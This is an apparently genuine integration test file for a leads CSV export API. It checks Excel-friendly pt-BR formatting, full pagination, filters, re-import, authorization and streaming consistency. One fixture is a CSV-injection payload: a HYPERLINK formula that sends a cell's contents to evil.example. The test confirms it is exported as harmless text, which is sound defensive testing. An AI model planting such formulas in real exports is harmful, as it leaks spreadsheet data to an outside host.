import { env } from "cloudflare:workers";
import Papa from "papaparse";
import { beforeAll, describe, expect, it } from "vitest";
import { api, as, db, jobEnded, userId } from "../../test/helpers";
import { ExportLeadsQuery, type Lead } from "../contracts/leads";
import { actorFor } from "../core/actor";
import type { Job } from "../jobs/schema";
import { exportPages } from "./export-pages";
import { LeadsRepo } from "./repo";

const tag = crypto.randomUUID().slice(0, 8);
/** More than one of the export's 2,000-lead pages. */
const MANY = 2_005;
const FORMULA = `=HYPERLINK("http://evil.example/?"&A1,"Clique") ${tag}`;

async function importJson(rows: unknown[]): Promise<void> {
  const res = await as("sales", "/api/leads/import", { method: "POST", json: rows });
  expect(res.status, await res.clone().text()).toBe(202);
  const { job } = (await res.json()) as { job: Job };
  const done = await jobEnded("sales", job.id, 90_000);
  expect(done.status, JSON.stringify(done.error)).toBe("succeeded");
}

async function exported(query: string, who: "sales" | "marketing" = "sales") {
  const res = await as(who, `/api/leads/export.csv?${query}`);
  expect(res.status, await res.clone().text()).toBe(200);
  const bytes = new Uint8Array(await res.arrayBuffer());
  const text = new TextDecoder("utf-8", { fatal: false, ignoreBOM: true }).decode(bytes);
  return { res, bytes, text };
}

function table(text: string, delimiter: string): string[][] {
  return Papa.parse<string[]>(text.replace(/^\ufeff/, ""), { delimiter, skipEmptyLines: true }).data;
}

beforeAll(async () => {
  await importJson([
    {
      company: `Ortoimplantes Exportação ${tag}`,
      website: `https://orto-${tag}.com.br`,
      segment: "Implantes Ortopédicos",
      tier: 1,
      city: "São José dos Campos",
      state: "SP",
      employees: 1200,
      yearsInBusiness: 25.5,
      certifications: ["ISO 13485", "ANVISA"],
      hasRnd: true,
      isManufacturer: false,
    },
    { company: FORMULA },
    ...Array.from({ length: MANY - 2 }, (_, i) => ({ company: `Lote ${i} ${tag}` })),
  ]);
}, 120_000);

describe("GET /api/leads/export.csv", () => {
  it("is the whole filtered list, in the list's order, as Excel in pt-BR opens it", async () => {
    const { res, bytes, text } = await exported(`q=${tag}`);
    expect(res.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(res.headers.get("content-disposition")).toMatch(
      /^attachment; filename="leads-\d{4}-\d{2}-\d{2}\.csv"$/,
    );
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(text.includes("\r\n")).toBe(true);
    const [header, ...rows] = table(text, ";");
    expect(header?.slice(0, 4)).toEqual(["Empresa", "Site", "Segmento", "Tier"]);
    expect(header?.slice(-8)).toEqual([
      "Lead score",
      "Fit",
      "Engajamento",
      "Prioridade",
      "Temperatura",
      "Território",
      "Responsável",
      "Atualizado em (UTC)",
    ]);
    // Every page, not the list's first 20 or 100: the same leads in the same order.
    expect(rows).toHaveLength(MANY);
    const listed: string[] = [];
    let cursor: string | null = null;
    do {
      const page = (await (
        await as(
          "sales",
          `/api/leads?q=${tag}&limit=100${cursor ? `&cursor=${encodeURIComponent(cursor)}` : ""}`,
        )
      ).json()) as { items: Array<{ company: string }>; nextCursor: string | null };
      listed.push(...page.items.map((l) => l.company));
      cursor = page.nextCursor;
    } while (cursor);
    expect(rows.map((r) => r[0]?.replace(/^'/, ""))).toEqual(listed);

    const col = (name: string) => header?.indexOf(name) ?? -1;
    const orto = rows.find((r) => r[0]?.startsWith("Ortoimplantes"));
    expect(orto?.[col("Cidade")]).toBe("São José dos Campos");
    expect(orto?.[col("Funcionários")]).toBe("1200");
    expect(orto?.[col("Anos de mercado")]).toBe("25,5");
    expect(orto?.[col("Certificações")]).toBe("ISO 13485; ANVISA");
    expect(orto?.[col("P&D")]).toBe("Sim");
    expect(orto?.[col("Fabricante")]).toBe("Não");
    expect(orto?.[col("Temperatura")]).toMatch(/^(HOT|WARM|COLD)$/);
    expect(orto?.[col("Lead score")]).toMatch(/^\d+(,\d+)?$/);
  });

  it("writes a formula as text, so opening the file runs nothing (CSV injection)", async () => {
    const { text } = await exported(`q=${tag}`);
    const rows = table(text, ";");
    const cell = rows.find((r) => r[0]?.includes("HYPERLINK"))?.[0];
    expect(cell).toBe(`'${FORMULA}`);
    expect(rows.every((r) => !/^[=+\-@]/.test(r[0] ?? ""))).toBe(true);
  });

  it("follows the filters and names the owner; in English it uses `,` and a decimal point", async () => {
    const orto = (
      (await (
        await as("sales", `/api/leads?q=${encodeURIComponent(`Ortoimplantes Exportação ${tag}`)}`)
      ).json()) as {
        items: Array<{ id: string }>;
      }
    ).items[0];
    const me = await userId("sales");
    const patched = await as("sales", `/api/leads/${orto?.id}`, { method: "PATCH", json: { ownerId: me } });
    expect(patched.status).toBe(200);
    const name = ((await (await as("sales", "/api/me")).json()) as { user: { name: string } }).user.name;

    const { text } = await exported(`q=${tag}&owner=me&lang=en`);
    const [header, ...rows] = table(text, ",");
    expect(header?.slice(0, 2)).toEqual(["Company", "Website"]);
    expect(rows).toHaveLength(1);
    const row = rows[0] ?? [];
    expect(row[header?.indexOf("Owner") ?? -1]).toBe(name);
    expect(row[header?.indexOf("Years in business") ?? -1]).toBe("25.5");
    expect(row[header?.indexOf("R&D") ?? -1]).toBe("Yes");

    // No lead matches: the header alone, so the sheet still has its columns.
    const empty = await exported(`q=${tag}-none`);
    expect(table(empty.text, ";")).toHaveLength(1);
  });

  it("imports back unchanged: every column maps and every lead merges into itself", async () => {
    const { bytes } = await exported(`q=${encodeURIComponent(`Ortoimplantes Exportação ${tag}`)}`);
    const preview = await as("sales", "/api/leads/import/preview", {
      method: "POST",
      headers: { "content-type": "text/csv" },
      body: bytes,
    });
    expect(preview.status, await preview.clone().text()).toBe(200);
    const p = (await preview.json()) as {
      total: number;
      valid: number;
      columns: Array<{ header: string; field: string | null }>;
      sample: Array<{ lead: Record<string, unknown> }>;
    };
    expect(p).toMatchObject({ total: 1, valid: 1 });
    expect(p.columns.filter((c) => c.field !== null)).toHaveLength(15);
    expect(p.sample[0]?.lead).toMatchObject({
      company: `Ortoimplantes Exportação ${tag}`,
      employees: 1200,
      yearsInBusiness: 25.5,
      certifications: ["ISO 13485", "ANVISA"],
      hasRnd: true,
      isManufacturer: false,
    });
  });

  it("refuses what the list refuses: no session, a token without leads:read, a wrong filter", async () => {
    expect((await api(`/api/leads/export.csv?q=${tag}`)).status).toBe(401);
    const created = await as("sales", "/api/tokens", {
      method: "POST",
      json: { name: "jobs only", scopes: ["jobs:read"] },
    });
    expect(created.status).toBe(201);
    const { token } = (await created.json()) as { token: string };
    const refused = await api("/api/leads/export.csv", { headers: { authorization: `Bearer ${token}` } });
    expect(refused.status).toBe(403);
    for (const query of ["heat=TEPID", "lang=fr", "sort=name"]) {
      const res = await as("sales", `/api/leads/export.csv?${query}`);
      expect(res.status, query).toBe(400);
      expect(res.headers.get("content-type")).toContain("application/problem+json");
    }
  });
});

describe("an export that streams while leads change", () => {
  it("lists each lead that matched at its start exactly once, in that order, with current values", async () => {
    const repo = new LeadsRepo(db(), actorFor(await userId("sales"), "sales", "session"));
    const filters = ExportLeadsQuery.omit({ lang: true }).parse({ q: tag, sort: "-updatedAt" });
    const atStart = await repo.orderedIds(filters);
    expect(atStart).toHaveLength(MANY);
    const pages = exportPages(repo, filters, 1000);
    const first = await pages.next();
    if (first.done) throw new Error("no first page");
    const seen = first.value.map((l) => l.id);

    // While the file streams (a rescoring job, another user's edit): a lead not yet written
    // becomes the most recently updated and one already written the least; one is deleted.
    const rising = atStart.at(-1) as string;
    const falling = atStart[0] as string;
    const deleted = atStart.at(-2) as string;
    await env.DB.batch([
      env.DB.prepare("UPDATE leads SET updated_at = ?, company = ? WHERE id = ?").bind(
        Date.now() + 3_600_000,
        `Renomeada ${tag}`,
        rising,
      ),
      env.DB.prepare("UPDATE leads SET updated_at = 1 WHERE id = ?").bind(falling),
      env.DB.prepare("DELETE FROM leads WHERE id = ?").bind(deleted),
    ]);

    const rest: Lead[] = [];
    for await (const page of pages) rest.push(...page);
    seen.push(...rest.map((l) => l.id));
    expect(seen).toEqual(atStart.filter((id) => id !== deleted));
    // A page reads its rows when it is written: the renamed lead shows its new name.
    expect(rest.find((l) => l.id === rising)?.company).toBe(`Renomeada ${tag}`);
  });
});
